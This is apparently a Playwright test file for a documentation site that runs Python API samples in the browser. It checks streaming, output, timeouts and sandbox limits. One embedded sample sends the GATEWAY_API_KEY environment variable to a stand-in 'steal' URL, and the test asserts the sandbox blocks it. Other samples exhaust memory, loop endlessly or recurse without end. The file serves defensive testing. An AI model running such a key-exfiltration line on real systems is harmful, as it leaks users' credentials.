"""Python samples run where they are read: every one of the site, and what a reader writes into one."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Literal

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.changed_files import NO_JSPI, NO_WEBASSEMBLY, POLICY, Change, altered
from tests.browser.console_panel import ConsolePanel
from tests.browser.operation_page import OperationPage
from tests.browser.runner_panel import START, RunnerPanel
from tests.browser.sample_worker import PrintedSample, Ran, SampleWorker, printed_samples
from tests.browser.test_accessibility import check

CHAT = "reference/chat/create-chat-completion/"
STREAMING = """
import os
from openai import OpenAI

client = OpenAI(base_url="https://eu.postern.example.com/v1", api_key=os.environ["GATEWAY_API_KEY"])
for chunk in client.chat.completions.create(
    model="fast", messages=[{"role": "user", "content": "How do fallbacks work?"}], stream=True
):
    if chunk.choices:
        print(chunk.choices[0].delta.content or "", end="", flush=True)
"""
AROUND = """
import os
import httpx2

print(os.environ["GATEWAY_API_KEY"])
try:
    httpx2.get("https://elsewhere.example/steal", headers={"X-Key": os.environ["GATEWAY_API_KEY"]})
except httpx2.HTTPError as error:
    print(error)
import js
print("fetch", js.fetch)
import none_such
"""


LISTED = "reference/models/list-models/"
BY_REQUESTS = """
import os
import requests

key = {"Authorization": "Bearer " + os.environ["GATEWAY_API_KEY"]}
answer = requests.get("https://eu.postern.example.com/v1/models", headers=key)
answer.raise_for_status()
print(answer.json()["object"])
"""
NESTED = """
import httpx2

def models():
    return httpx2.get("https://eu.postern.example.com/v1/models").json()

print(models())
"""


@pytest.fixture(scope="module")
def reading(chromium: Browser, published: str) -> Iterator[tuple[Page, list[str]]]:
    """One page for all tests here, and all that its browser asked for: each start of Python costs seconds."""
    context = chromium.new_context(viewport={"width": 1440, "height": 900})
    context.set_default_timeout(20_000)
    requests: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page = context.new_page()
    OperationPage(page, published, CHAT)
    expect(page.locator(".gatepost-run").first).to_be_attached()
    assert not [url for url in requests if "pyodide" in url], "nothing of Python comes before it is used"
    yield page, requests
    context.close()


@pytest.fixture
def runner(reading: tuple[Page, list[str]]) -> RunnerPanel:
    return RunnerPanel(reading[0])


def test_a_guide_has_code_that_runs(page: Page, published: str) -> None:
    page.goto(f"{published}postern/first-call/")
    sample = page.locator(".gatepost-samples")
    sample.get_by_role("button", name="Run", exact=True).click()
    expect(sample.locator(".gatepost-output")).to_contain_text("I am Postern's simulator", timeout=START)


@pytest.mark.parametrize("palette", ["light", "dark"])
def test_no_violation_below_a_sample_that_ran(runner: RunnerPanel, palette: Literal["light", "dark"]) -> None:
    runner.page.emulate_media(color_scheme=palette)
    runner.run()
    runner.expect_end("done")
    runner.write("import none_such")
    runner.run()
    runner.expect_end("raised")
    check(runner.page)
    runner.panel.get_by_role("button", name="Undo changes").click()
    runner.page.emulate_media(color_scheme="light")


def test_every_python_sample_of_the_site_prints_a_result(page: Page, published: str, demo_site: Path) -> None:
    samples = list(printed_samples(demo_site))
    assert {one.language for one in samples} == {"python", "python-sync", "openai", "guide"}
    # The older version's samples are answered as that version says.
    assert {one.folder.split("/")[0] for one in samples} == {"2025-11", "mcp", "reference"}
    asked = [(one.folder, one.source) for one in samples]
    *ran, by_requests, nested = SampleWorker(page, published, demo_site).run(
        [*asked, (LISTED, BY_REQUESTS), (LISTED, NESTED)]
    )
    assert by_requests == ("done", "list\n")
    # Python can wait here, so a call inside a function is answered: refused, without a key.
    assert nested.state == "done" and "error" in nested.output
    assert [one for one in zip(samples, ran, strict=True) if not plausible(*one)] == []


def plausible(sample: PrintedSample, ran: Ran) -> bool:
    """Whether it ended well and printed what such a call gives: never nothing, and no word that asks to be replaced."""
    said = ran.output.strip()
    return ran.state == "done" and said not in ("", "None", "[]", "{}") and not re.search(r"<[a-z_]+>", said)


def test_samples_run_where_the_browser_cannot_let_python_wait(page: Page, published: str, demo_site: Path) -> None:
    page.route("**/pyodide-samples-*.js", altered(NO_JSPI))
    wanted = ("reference/chat/", "mcp/quarry/tools/", "reference/usage/")
    samples = [(one.folder, one.source) for one in printed_samples(demo_site) if one.folder.startswith(wanted)]
    told = 'import js\nprint(hasattr(js.WebAssembly, "Suspending"))'
    more = [(LISTED, source) for source in (told, BY_REQUESTS, NESTED)]
    *ran, (_, has_it), by_requests, unable = SampleWorker(page, published, demo_site).run([*samples, *more])
    assert has_it == "False\n"
    assert by_requests == ("done", "list\n")
    assert [one for one in zip(samples, ran, strict=True) if one[1].state != "done"] == []
    # What cannot be rewritten is told, with the form that can be run.
    assert unable.state == "raised" and "line 5, in models" in unable.output
    assert "cannot let Python wait inside a function" in unable.output and "asynchronous client" in unable.output


def test_a_reader_runs_a_sample_as_it_stands(runner: RunnerPanel) -> None:
    runner.run()
    runner.expect_end("done", "I am Postern's simulator", "'usage':")
    expect(runner.panel.locator("gatepost-runner")).to_contain_text("calls the sandbox in this page")


def test_a_changed_sample_prints_as_tokens_arrive(runner: RunnerPanel) -> None:
    runner.run()
    runner.expect_end("done")
    runner.watch()
    runner.write(STREAMING)
    expect(runner.code.locator("span[class]:not([class=''])")).to_have_count(0)
    runner.run()
    runner.expect_end("done", "Fallbacks name the models that answer")
    growth = [length for length in runner.growth if length < 4000]
    assert len(growth) >= 5, "the answer must grow in many steps"
    runner.panel.get_by_role("button", name="Undo changes").click()
    expect(runner.code).to_contain_text("client.post")


def test_a_sample_cannot_reach_anything_else_nor_see_the_key(
    reading: tuple[Page, list[str]], runner: RunnerPanel, published: str
) -> None:
    page, requests = reading
    runner.run()
    console = OperationPage.here(page).try_it()
    console.give_key("sk-typed-by-the-reader")
    runner.write(AROUND)
    runner.run()
    runner.expect_end("raised", "gatepost-key-GATEWAY_API_KEY", "call their gateway alone", "fetch None")
    runner.expect_end("raised", "line 12", "The package 'none_such' is not in this page")
    expect(runner.output).not_to_contain_text("sk-typed")
    expect(runner.output).not_to_contain_text("UnsupportedProtocol")
    runner.panel.get_by_role("button", name="Undo changes").click()
    runner.run()
    # The console's key is the sample's, too.
    runner.expect_end("raised", "sample.py", "401 Unauthorized")
    console.give_key("sk-sandbox")
    assert [url for url in requests if not url.startswith((published, "data:"))] == []


@pytest.mark.parametrize("endless", ["while True:\n    pass", "while True:\n    print('again')"], ids=["busy", "loud"])
def test_a_runaway_sample_is_stopped_and_the_console_goes_on(
    reading: tuple[Page, list[str]], runner: RunnerPanel, endless: str
) -> None:
    page, _ = reading
    runner.run()
    runner.write(endless)
    runner.run()
    runner.expect_running()
    assert runner.stop() < 2000
    runner.expect_end("stopped")
    if page.get_by_role("button", name="Send", exact=True).is_hidden():
        OperationPage.here(page).try_it()
    console = ConsolePanel(page)
    console.send()
    console.expect_status("200 OK")
    runner.panel.get_by_role("button", name="Undo changes").click()
    runner.run()
    runner.expect_end("done", "I am Postern's simulator")


@pytest.mark.parametrize(
    ("greedy", "said"),
    [
        ("kept = []\nwhile True:\n    kept.append(bytearray(32_000_000))", "MemoryError"),
        ("def deeper(n):\n    return deeper(n + 1)\n\ndeeper(0)", "RecursionError"),
    ],
    ids=["memory", "depth"],
)
def test_a_sample_that_takes_without_end_is_told_so_and_the_next_one_runs(
    runner: RunnerPanel, greedy: str, said: str
) -> None:
    runner.run()
    runner.expect_end("done")
    runner.write(greedy)
    runner.run()
    runner.expect_end("raised", "sample.py", said)
    runner.panel.get_by_role("button", name="Undo changes").click()
    runner.run()
    runner.expect_end("done", "I am Postern's simulator")


@pytest.mark.parametrize(
    ("change", "said"),
    [(POLICY, "does not allow WebAssembly"), (NO_WEBASSEMBLY, "has no WebAssembly"), (None, "Its script did not come")],
    ids=["blocked by policy", "no WebAssembly", "no worker"],
)
def test_why_no_sample_can_run_is_said(page: Page, published: str, change: Change | None, said: str) -> None:
    page.route("**/pyodide-samples-*.js", altered(change))
    OperationPage(page, published, "reference/models/list-models/")
    runner = RunnerPanel(page)
    runner.run()
    runner.expect_end("failed", said)
